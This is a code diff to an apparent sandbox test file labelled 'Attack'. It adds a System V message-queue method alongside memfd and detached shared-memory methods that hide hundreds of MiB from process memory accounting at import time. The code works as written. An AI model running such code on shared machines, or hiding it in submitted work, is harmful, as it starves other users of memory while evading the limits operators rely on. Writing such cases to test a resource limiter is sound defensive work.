@@ -1,16 +1,17 @@
-"""Attack: memory no process's resident size counts. 768 MiB (over the tiny lab's 600 MiB
-budget) written into kernel memory of the run that no page table maps: a ``memfd`` (its
-pages live in the file, not in the process) or a System V shared memory segment created,
-filled and detached (it outlives every attachment). Twenty such runs at once could take
-the machine's memory from every classmate while each run's measured size stays small.
-The file predicts well only when the memory was held: a refused call fails its import."""
+"""Attack: memory no process's resident size counts, in kernel memory of the run that no
+page table maps: a ``memfd`` (its pages live in the file, not in the process) or a System V
+shared memory segment created, filled and detached (it outlives every attachment), 768 MiB
+either way (over the tiny lab's 600 MiB budget); or System V message queues (500 MiB, all a
+fresh IPC namespace allows). Twenty such runs at once could take the machine's memory from
+every classmate while each run's measured size stays small. The file predicts well only
+when the memory was held: a refused call fails its import."""
 
 import ctypes
 import os
 
 import numpy as np
 
-HOW = "memfd"  # or "sysv"
+HOW = "memfd"  # or "sysv", "queues"
 HIDDEN = 768 * 2**20
 _held = []
 
@@ -39,7 +40,18 @@ def _sysv() -> None:
         libc.shmdt(ctypes.c_void_p(address))  # detached: no process maps it any more
 
 
-{"memfd": _memfd, "sysv": _sysv}[HOW]()
+def _queues() -> None:
+    libc = ctypes.CDLL(None, use_errno=True)
+    message = ctypes.create_string_buffer((1).to_bytes(8, "little") + bytes(8192))
+    for _ in range(32000):  # a fresh IPC namespace's limits: 32,000 queues of 16 KiB
+        queue = libc.msgget(0, 0o1600)
+        if queue < 0:
+            raise OSError(ctypes.get_errno(), "msgget refused")
+        while libc.msgsnd(queue, message, 8192, 0o4000) == 0:  # IPC_NOWAIT: until full
+            pass
+
+
+{"memfd": _memfd, "sysv": _sysv, "queues": _queues}[HOW]()
 
 
 def train(X, y):
